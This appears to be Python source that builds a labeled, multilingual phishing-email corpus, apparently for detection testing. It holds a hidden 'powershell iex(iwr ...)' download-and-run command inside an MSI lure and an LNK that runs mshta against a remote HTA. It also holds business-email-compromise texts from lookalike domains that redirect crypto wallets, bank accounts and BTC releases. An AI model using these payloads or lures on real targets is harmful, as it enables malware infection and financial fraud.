add(L("attachment", "ja", "MSI のカスタムアクションで PowerShell を実行する「経費精算ツール更新版」",
      ("経理システムサポート", "support@keihi-cloud-update.jp"), KEIRI, "経費精算ツール 最新版（必須アップデート）",
      """経理部 各位

経費精算ツールのセキュリティ更新版を添付します。11月14日までにインストールしてください。
インストール時にウイルス対策ソフトの警告が出た場合は「許可」を選択してください。""", "2026-11-12 10:00 +0900",
      attachments=(Att("KeihiTool_Update_3.2.msi",
                       msi("KeihiTool", "powershell -w hidden -c iex(iwr https://keihi-cloud-update.jp/k.ps1)"),
                       "application/x-msi"),)))

# -- conversation-hijack ----------------------------------------------------------------------------
add(L("conversation-hijack", "en", "reply in the Marrowgate Custody thread from marrowgate-custodv.com (y -> v) changing the settlement wallet",
      ("Petra Lindgren", "p.lindgren@marrowgate-custodv.com"), TANAKA, "RE: Weekly settlement 14 Nov - confirmations",
      """Hi Mika,

Thanks for the confirmations below. One change before Friday: our compliance team has rotated the
settlement vault, so please use the following address for this and future settlements:

0xA5d39F0b7E1c42d86F3a9B0e25C7d14f6E8b2c03

The old vault will reject deposits from Thursday.

Best regards,
Petra Lindgren
Settlement Operations, Marrowgate Custody""", "2026-11-12 09:05 +0000",
      in_reply_to=MID_MARROW, references=MID_MARROW))
add(L("conversation-hijack", "ja", "初雁トラストのスレッドに hatsukari-trusts.co.jp（複数形）から返信し、添付 zip の LNK を開かせる",
      ("初雁トラスト 川村", "kawamura@hatsukari-trusts.co.jp"), TANAKA_JA, "Re: 11月分 保管残高報告書の件",
      """田中様

お世話になっております。初雁トラストの川村です。
ご依頼の保管残高報告書（修正版）を添付いたします。社内規定によりパスワード付きです。
パスワード：KT1106

ご確認よろしくお願いいたします。""", "2026-11-06 10:40 +0900",
      in_reply_to=MID_HATSU, references=MID_HATSU,
      attachments=(Att("保管残高報告書_修正版.zip",
                       zip_archive([("保管残高報告書_修正版.pdf.lnk",
                                     lnk(r"C:\Windows\System32\mshta.exe", "https://hatsukari-trusts.co.jp/r.hta",
                                         r"C:\Windows\System32\imageres.dll", name="PDF"))], password="KT1106"),
                       "application/zip"),)))
add(L("conversation-hijack", "zh", "伪造的转发（无 In-Reply-To），来自 guangyue-otc.com.hk 的仿冒域 guangyue-0tc.com 要求先放币",
      ("光越场外 周敏", "zhoumin@guangyue-0tc.com"), LI, "FW: 回复: 11月13日大宗成交确认",
      """李伟，

见下方往来邮件。客户的法币已经在途，银行那边显示明早到账。为了不耽误客户的开仓，请今天先把 500 BTC 放到成交确认里的地址，
我们这边担保。

周敏

-----Original Message-----
From: 李伟
Sent: 2026-11-13 10:02
Subject: 回复: 11月13日大宗成交确认
好的，法币到账后我们立即放币。""", "2026-11-13 16:20 +0800"))
add(L("conversation-hijack", "ar", "رد في سلسلة شريك من نطاق مشابه (.ae -> -ae.com) يطلب تغيير حساب بنكي",
      ("ميثاء الفلاسي", "maitha.alfalasi@sahm-brokerage-ae.com"), HADDAD, "RE: فاتورة عمولات أكتوبر",
      """عمر،

شكراً على التأكيد. يرجى ملاحظة أن حسابنا البنكي تغيّر بسبب تدقيق داخلي، الرجاء تحويل العمولات إلى:
IBAN: AE47 0330 0000 1928 3746 510
بنك: المشرق

يرجى عدم استخدام الحساب القديم.""", "2026-11-14 10:15 +0400"))
add(L("conversation-hijack", "fr", "réponse dans le fil Rochebrune depuis un domaine sosie (.fr -> -fr.com) avec un lien de téléchargement",
      ("Lucas Perrin", "l.perrin@rochebrune-gestion-fr.com"), LAURENT, "RE: Convention de dépôt - version finale",
      """Bonjour Camille,

Comme convenu, voici la version finale de la convention, trop lourde pour être jointe :
https://rochebrune-gestion-fr.com/partage/Convention_finale.zip

Merci de la signer aujourd'hui si possible.

Lucas""", "2026-11-15 11:00 +0100"))
